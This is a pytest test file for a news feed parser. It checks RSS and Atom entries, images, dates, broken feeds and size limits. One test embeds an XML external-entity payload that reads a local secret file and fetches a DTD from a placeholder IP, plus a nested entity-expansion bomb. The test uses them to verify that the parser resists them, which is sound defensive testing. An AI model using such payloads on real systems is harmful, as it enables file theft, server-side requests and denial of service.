"""Feeds: entries with exact places, pictures, HTML inside, dates as written, broken feeds read on."""

from __future__ import annotations

import socket
import time
from html import unescape
from pathlib import Path
from typing import Any

import pytest

from newsmeta.exporters.exporter import export
from newsmeta.model.article import NewsArticle
from newsmeta.model.parts import Image
from newsmeta.pipeline import documents, read, read_all
from tests.sources.standing import written

SPACES = (
    'xmlns:media="http://search.yahoo.com/mrss/" xmlns:content="http://purl.org/rss/1.0/modules/content/" '
    'xmlns:dc="http://purl.org/dc/elements/1.1/"'
)
RSS = f"""<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0" {SPACES}>
<channel><title>The Marlow Herald</title><link>https://herald.example/</link><language>en-gb</language>
<item>
  <title>Ferry link &amp; harbour reopen</title>
  <link>https://herald.example/news/ferry</link>
  <guid isPermaLink="false">mh-77</guid>
  <pubDate>Fri, 16 Jan 2026 08:30:00 +0700</pubDate>
  <dc:creator><![CDATA[Ada Moor]]></dc:creator>
  <description>The harbour opened again on Friday after a week of storms.</description>
  <category domain="https://herald.example/section">Transport</category><category>harbour</category>
  <content:encoded><![CDATA[<figure><img src="/i/quay.jpg" alt="The quay"><figcaption>The quay on Friday. \
Photo: Lena Ost/AP</figcaption></figure>
<p>PORT ELLIS (AP) — The harbour opened again on Friday after a week of storms that kept every boat tied up.</p>
<p>Ferries leave every hour &amp; more will follow in the spring, the company said in a \
statement.</p>]]></content:encoded>
  <media:content url="https://herald.example/i/boats.jpg" medium="image" width="1200" height="800">
    <media:credit>Lena Ost</media:credit><media:description>Boats at dawn</media:description></media:content>
</item>
<item><title>Council votes on bridges</title><link>https://herald.example/news/bridges</link>
  <author>news@herald.example (Jo Doe)</author>
  <pubDate>2026-01-15</pubDate>
  <description>&lt;p&gt;A &lt;b&gt;short&lt;/b&gt; summary&amp;nbsp;of the vote&lt;/p&gt;</description></item>
</channel></rss>
"""
ATOM = """<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="de" xml:base="https://bote.example/">
<title>Der Bote</title><author><name>Redaktion Nord</name></author>
<entry><id>urn:bote:1</id><title type="html">Fähren &amp;amp; Boote</title><link href="artikel/faehren"/>
<link rel="related" href="https://bote.example/artikel/sturm" title="Die Woche der Stürme"/>
<published>2026-01-16T08:30:00+01:00</published><updated>2026-01-16T08:30:00+01:00</updated>
<summary>Der Hafen ist am Freitag wieder offen.</summary>
<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>Der Hafen von Ellis ist am Freitag nach einer Woche \
voller Stürme wieder geöffnet worden.</p></div></content></entry>
<entry><id>urn:bote:2</id><link href="https://bote.example/2"/><title>Zweite Meldung</title>
<author><name>Eva Kern</name></author><updated>2026-01-16T09:00:00Z</updated></entry>
</feed>
"""


def test_rss_entries_are_stories_with_places() -> None:
    first, second = read_all(RSS)
    article = first.article
    assert first.document.format == "feed"
    assert article.headline == "Ferry link & harbour reopen"
    assert written(first, "headline") == "Ferry link &amp; harbour reopen"
    assert article.url == "https://herald.example/news/ferry"
    assert str(article.date_published) == "2026-01-16T08:30:00+07:00"
    assert written(first, "date_published") == "Fri, 16 Jan 2026 08:30:00 +0700"
    assert [author.name for author in article.authors] == ["Ada Moor"]
    assert (article.section, article.keywords) == ("Transport", ("harbour",))
    assert article.publisher is not None
    assert (article.publisher.name, article.publisher.url) == ("The Marlow Herald", "https://herald.example/")
    assert (article.identifier, article.language) == ("mh-77", "en-GB")
    assert [author.name for author in second.article.authors] == ["Jo Doe"]
    assert written(second, "authors") == "Jo Doe"
    assert str(second.article.date_published) == "2026-01-15"


def test_html_inside_an_entry_is_read_like_a_page() -> None:
    first, second = read_all(RSS)
    article = first.article
    assert article.dateline is not None
    assert article.dateline.text == "PORT ELLIS (AP)"
    assert (
        article.body[1] == "Ferries leave every hour & more will follow in the spring, the company said in a statement."
    )
    place = [candidate.evidence.place for candidate in first.evidence["body"]][1]
    assert place is not None
    start, end = place.span() or (0, 0)
    assert first.document.text[start:end].startswith("Ferries leave every hour &amp; more")
    assert first.document.locate(start, end).line == RSS[:start].count("\n") + 1
    assert second.article.description == "A short summary of the vote".replace("summary of", "summary\xa0of")
    assert second.article.body == ()
    assert written(second, "description").startswith("A &lt;b&gt;short&lt;/b&gt;")


def test_pictures_of_an_entry_bring_caption_credit_and_size() -> None:
    images = {image.url: image for image in read(RSS).article.images}
    boats = images["https://herald.example/i/boats.jpg"]
    assert (boats.caption, boats.credit, boats.width, boats.height) == ("Boats at dawn", "Lena Ost", 1200, 800)
    quay = images["https://herald.example/i/quay.jpg"]
    assert (quay.caption, quay.credit) == ("The quay on Friday.", "Lena Ost/AP")


def test_atom_entries() -> None:
    first, second = (reading.article for reading in read_all(ATOM))
    assert (first.headline, first.url) == ("Fähren & Boote", "https://bote.example/artikel/faehren")
    assert (str(first.date_published), first.date_modified) == ("2026-01-16T08:30:00+01:00", None)
    assert first.body == ("Der Hafen von Ellis ist am Freitag nach einer Woche voller Stürme wieder geöffnet worden.",)
    assert [(each.title, each.url) for each in first.related] == [
        ("Die Woche der Stürme", "https://bote.example/artikel/sturm")
    ]
    assert [author.name for author in first.authors] == ["Redaktion Nord"]
    assert [author.name for author in second.authors] == ["Eva Kern"]
    assert (second.date_published, str(second.date_modified)) == (None, "2026-01-16T09:00:00Z")


TITLE = "<title>Old one here</title>"
RDF_SPACES = 'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"'
LINK = "<link>https://a.example/1</link>"
ATOM_LINK = '<link rel="alternate" href="https://a.example/1"/>'
DOCTYPE = '<!-- a --><!DOCTYPE rss SYSTEM "x.dtd">'
OLDER = (
    f'<rss version="0.91"><channel><item>{TITLE}{LINK}</item></channel></rss>',
    f"<rdf:RDF {RDF_SPACES}><channel/><item>{TITLE}{LINK}</item></rdf:RDF>",
    f'<feed version="0.3" xmlns="http://purl.org/atom/ns#"><entry>{TITLE}{ATOM_LINK}</entry></feed>',
    f"{DOCTYPE}<rss><channel><item>{TITLE}<guid>https://a.example/1</guid></item></channel></rss>",
)


@pytest.mark.parametrize("feed", OLDER, ids=["rss 0.91", "rss 1.0", "atom 0.3", "guid alone"])
def test_older_kinds(feed: str) -> None:
    reading = read(feed)
    assert reading.document.format == "feed"
    assert (reading.article.headline, reading.article.url) == ("Old one here", "https://a.example/1")


def test_html_in_a_feed_does_not_make_it_a_page() -> None:
    item = "<item><title>A</title><description><p>x</p><div/></description></item>"
    feed = f'<?xml version="1.0"?><rss><channel>{item}</channel></rss>'
    assert next(documents(feed)).format == "feed"
    page = '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>A</title></head><body/></html>'
    assert next(documents(page)).format == "html"


def test_a_broken_feed_keeps_every_story_and_says_where() -> None:
    broken = RSS.replace("Council votes on", "Fish & chips,<br> votes on").replace("</item>\n<item>", "\n<item>")
    first, second = read_all(broken)
    assert first.article.headline == "Ferry link & harbour reopen"
    assert second.article.headline == "Fish & chips, votes on bridges"
    flaw = second.document.flaws[0]
    assert flaw.kind == "xml-not-well-formed"
    start, _ = flaw.place.span() or (0, 0)
    assert broken[start - 5 : start + 1] == "Fish &"


def test_an_empty_feed_is_one_document_that_says_so() -> None:
    (reading,) = read_all('<rss version="2.0"><channel><title>Nothing yet</title></channel></rss>')
    assert [flaw.kind for flaw in reading.document.flaws] == ["empty-feed"]
    assert reading.article.headline is None


def test_a_cut_feed_keeps_what_came() -> None:
    cut = RSS[: RSS.index("<pubDate>2026-01-15")]
    assert [reading.article.headline for reading in read_all(cut)] == [
        "Ferry link & harbour reopen",
        "Council votes on bridges",
    ]


def test_nothing_is_opened(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("canary-token")
    read(RSS)  # what newsmeta itself loads is loaded by now
    opened: list[Any] = []
    monkeypatch.setattr(socket, "socket", lambda *args, **kwargs: opened.append(args))
    monkeypatch.setattr("builtins.open", lambda *args, **kwargs: opened.append(args))
    doctype = (
        f'<!DOCTYPE rss SYSTEM "file://{secret}" [<!ENTITY x SYSTEM "file://{secret}">'
        '<!ENTITY % p SYSTEM "http://198.51.100.1/x.dtd"> %p; <!ENTITY a "aaaaaaaaaa">'
        + "".join(f'<!ENTITY a{n} "{"&a;" * 10}">' for n in range(9))
        + "]>"
    )
    attack = RSS.replace("<rss", doctype + "<rss", 1).replace("Ferry link", "&x;&a8; Ferry link")
    first = read(attack)
    assert opened == []
    assert first.article.headline is not None
    assert "canary" not in first.article.model_dump_json()
    assert len(first.article.headline) < 60
    assert "xml-entity" in {flaw.kind for flaw in first.document.flaws}


@pytest.mark.parametrize("feed", [RSS, ATOM], ids=["rss", "atom"])
def test_feedparser_reads_the_same(feed: str) -> None:
    feedparser = pytest.importorskip("feedparser")
    theirs = feedparser.parse(feed.encode()).entries
    ours = list(read_all(feed))
    assert len(theirs) == len(ours)
    for entry, reading in zip(theirs, ours, strict=True):
        assert reading.article.headline == entry.title.replace("&amp;", "&")
        assert reading.article.url == entry.get("link")
        moment = reading.article.date_published.instant if reading.article.date_published else None
        if moment is not None:
            assert moment.timetuple()[:6] == entry.published_parsed[:6]


def test_many_entries_cost_no_more_than_their_number() -> None:
    start, stop = RSS.index("<item>"), RSS.index("</channel>")

    def cost(times: int) -> float:
        feed = RSS[:start] + RSS[start:stop] * times + RSS[stop:]
        before = time.process_time()
        assert sum(1 for _ in documents(feed)) == 2 * times
        return time.process_time() - before

    small, large = (min(cost(times) for _ in range(2)) for times in (40, 320))
    assert large < 16 * small


GROUPS = """<rss version="2.0" xmlns:media="http://search.yahoo.com/mrss/"><channel><title>The Herald</title><item>
<title>Two of one quay</title>{media}</item></channel></rss>"""
SMALL, LARGE = (
    f'<media:content url="https://herald.example/i/quay.jpg?w={width}" medium="image"/>' for width in (140, 460)
)


def test_bare_sizes_of_a_picture_are_one_and_groups_are_one_each() -> None:
    bare = read(GROUPS.format(media=SMALL + LARGE)).article.images
    assert [image.url for image in bare] == ["https://herald.example/i/quay.jpg?w=140"]
    grouped = "".join(f"<media:group>{each}</media:group>" for each in (SMALL, LARGE))
    assert len(read(GROUPS.format(media=grouped)).article.images) == 2


def test_a_feed_of_newsmeta_is_taken_at_its_word() -> None:
    story = NewsArticle(
        headline="Vote on the quay",
        description="The <b>last</b> vote &c.",
        body=("By Ada Moor", "Sign up for our newsletter", 'The vote\u00a0is tonight & "open".', "Read more: all"),
        images=(Image(url="https://herald.example/i/a.jpg", caption="The quay | Ada Moor", credit="Handout/Moor"),) * 2,
    )
    for name in ("rss", "atom", "newsml-g2"):
        found = read(export(story, name))
        assert found.article == story, name
        third = found.document.blocks[2]
        start, end = third.part(third.text.index("&"), third.text.index("open")).span() or (0, 0)
        assert unescape(unescape(found.document.text[start:end])) == '& "'


def test_of_a_file_of_very_many_stories_the_first_are_read(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("newsmeta.pipeline.MOST_STORIES", 3)
    feed = f"<rss version='2.0'><channel>{'<item><title>Ferry</title></item>' * 9}</channel></rss>"
    found = [{flaw.message for flaw in each.document.flaws_of("over-a-cap")} for each in read_all(feed)]
    assert found == [set(), set(), set(), {"more than 3 stories: the rest was left out"}]
    whole = feed.replace("<item><title>Ferry</title></item>" * 9, "<item><title>Ferry</title></item>" * 3)
    assert len(list(read_all(whole))) == 3


def test_what_the_feed_itself_says_is_said_of_each_entry_a_few_times_only() -> None:
    authors = "".join(f"<author><name>Nora Ash{n}</name></author>" for n in range(500))
    entries = "<entry><title>Ferry</title></entry>" * 3
    feed = f"<feed xmlns='http://www.w3.org/2005/Atom'><title>T</title>{authors}{entries}"
    assert all(1 <= len(each.article.authors) <= 20 for each in read_all(f"{feed}</feed>"))
    languages = "".join(f"<language>x{n}</language>" for n in range(500))
    feed = f"<rss version='2.0'><channel><title>T</title>{languages}{'<item><title>Ferry</title></item>' * 3}"
    assert all(len(each.metas) < 100 for each in documents(f"{feed}</channel></rss>"))
